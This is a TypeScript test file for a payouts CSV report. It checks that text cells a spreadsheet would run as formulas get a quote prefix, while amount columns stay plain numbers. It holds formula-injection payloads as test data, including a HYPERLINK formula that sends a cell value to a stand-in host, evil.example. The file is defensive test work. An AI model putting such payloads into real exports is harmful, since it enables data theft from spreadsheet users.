import assert from 'node:assert/strict';
import type { KeyObject } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { REPORT_COLUMNS, csvCell } from '../src/edge/admin/payout-report.js';
import { startHarness, type Harness } from './helpers/harness.js';
import { USD, clockNow, createProject, dest, ok, payoutBody, topUp, untilFinal, untilPending, type Json } from './helpers/payouts.js';

/**
 * The payouts CSV report against CSV (formula) injection: a text cell a spreadsheet would run as a
 * formula (=, +, -, @, tab, CR first) opens as text (a single quote before it, the cell quoted); the
 * amount columns stay plain numbers, a negative one too.
 */
describe('csvCell', () => {
  test('a text cell a spreadsheet would run as a formula gets a quote before it and is quoted', () => {
    assert.equal(csvCell('=1+2'), `"'=1+2"`);
    assert.equal(csvCell('+79680000000'), `"'+79680000000"`);
    assert.equal(csvCell('-2+3'), `"'-2+3"`);
    assert.equal(csvCell('-1.48'), `"'-1.48"`); // text columns are text, even when they look like a number
    assert.equal(csvCell('@SUM(A1:A9)'), `"'@SUM(A1:A9)"`);
    assert.equal(csvCell('\t=1'), `"'\t=1"`);
    assert.equal(csvCell('\r=1'), `"'\r=1"`);
    assert.equal(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  });

  test('other text is written as before: quoted only for a quote, comma or line break', () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('line\nbreak'), '"line\nbreak"');
    assert.equal(csvCell('a=1'), 'a=1');
    assert.equal(csvCell(' =1'), ' =1');
    assert.equal(csvCell({ order: '=1' }), '"{""order"":""=1""}"');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell(''), '');
  });

  test('a numeric column keeps plain numbers, negative ones too; anything else in it is text', () => {
    assert.equal(csvCell('124.93', true), '124.93');
    assert.equal(csvCell('-1.48', true), '-1.48');
    assert.equal(csvCell('-12', true), '-12');
    assert.equal(csvCell(0, true), '0');
    assert.equal(csvCell(-5, true), '-5');
    assert.equal(csvCell('-1+1', true), `"'-1+1"`);
    assert.equal(csvCell('=1', true), `"'=1"`);
    assert.equal(csvCell('1e5', true), '1e5');
    assert.equal(csvCell(-5), `"'-5"`); // a number in a text column
  });
});

/** RFC 4180 cells: each row's cells as raw text (quotes kept) and as parsed values. */
function cells(text: string): { raw: string[]; value: string[] }[] {
  const rows: { raw: string[]; value: string[] }[] = [];
  let raw: string[] = [];
  let value: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cellRaw: string;
    let cellValue = '';
    if (text[i] === '"') {
      let j = i + 1;
      for (;;) {
        if (text[j] === '"' && text[j + 1] === '"') {
          cellValue += '"';
          j += 2;
        } else if (text[j] === '"') break;
        else cellValue += text[j++];
      }
      cellRaw = text.slice(i, j + 1);
      i = j + 1;
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r') j++;
      cellRaw = cellValue = text.slice(i, j);
      i = j;
    }
    raw.push(cellRaw);
    value.push(cellValue);
    if (text[i] === ',') i++;
    else if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push({ raw, value });
      raw = [];
      value = [];
      i += 2;
    } else throw new Error(`bad CSV at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
  }
  return rows;
}

describe('the payouts report (§5.19) with hostile metadata', () => {
  let h: Harness;
  let key: KeyObject;
  let start: Date;
  const HOSTILE = ['=HYPERLINK("http://evil.example/","x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'order-7'];

  before(async () => {
    h = await startHarness();
    key = await createProject(h, 'csvinj', { fees: { payout: { percent: 0, fixed: 10 } } });
    await topUp(h, 'csvinj', 1_000_000);
    start = await clockNow(h);
    const opts = { project: 'csvinj', key };
    for (const [i, metadata] of HOSTILE.entries()) {
      const init: Json = await ok(h, 'session/init/payout', payoutBody('v1', dest.card(), USD(1000 + i), { metadata }), opts);
      await untilPending(h, init['session']['id'], opts);
      await ok(h, 'session/confirm', { session_id: init['session']['id'] }, opts);
      assert.equal((await untilFinal(h, init['session']['id'], opts))['status'], 'accepted');
    }
  });
  after(async () => h?.close());

  test('metadata that would be a formula opens as text; the amounts are plain numbers', async () => {
    const end = new Date((await clockNow(h)).getTime() + 1000);
    const res = await h.admin('GET', `/reports/payouts.csv?project=csvinj&from=${start.toISOString()}&to=${end.toISOString()}`);
    assert.equal(res.statusCode, 200, res.body);
    const [header, ...rows] = cells(res.body);
    assert.deepEqual(header!.value, [...REPORT_COLUMNS]);
    assert.equal(rows.length, HOSTILE.length);
    const col = (name: (typeof REPORT_COLUMNS)[number]) => REPORT_COLUMNS.indexOf(name);
    const byMeta = new Map(rows.map((r) => [r.value[col('paymentSessionMerchantMetadata')]!, r]));
    for (const [i, metadata] of HOSTILE.entries()) {
      const formula = /^[=+\-@\t\r]/.test(metadata);
      const row = byMeta.get(formula ? `'${metadata}` : metadata);
      assert.ok(row, `no row for ${JSON.stringify(metadata)}: ${[...byMeta.keys()].map((k) => JSON.stringify(k)).join(' ')}`);
      if (formula) assert.equal(row.raw[col('paymentSessionMerchantMetadata')], `"'${metadata.replace(/"/g, '""')}"`);
      // Amounts and the paymentFast flag: bare numbers, never quoted or prefixed.
      assert.equal(row.raw[col('paymentLocalAmount')], (10 + i / 100).toFixed(2));
      assert.equal(row.raw[col('feesLocalAmount')], '0.10');
      assert.equal(row.raw[col('grossLocalAmount')], (10.1 + i / 100).toFixed(2));
      assert.equal(row.raw[col('paymentFast')], '0');
    }
    // No cell of the report, as a spreadsheet reads it, starts a formula (a quoted cell is read without its quotes).
    for (const row of rows) {
      row.value.forEach((value, i) => {
        if (['paymentFast', 'grossLocalAmount', 'paymentLocalAmount', 'feesLocalAmount'].includes(REPORT_COLUMNS[i]!)) assert.match(value, /^\d+(\.\d+)?$/);
        else assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${REPORT_COLUMNS[i]}: ${JSON.stringify(value)}`);
      });
    }
  });
});
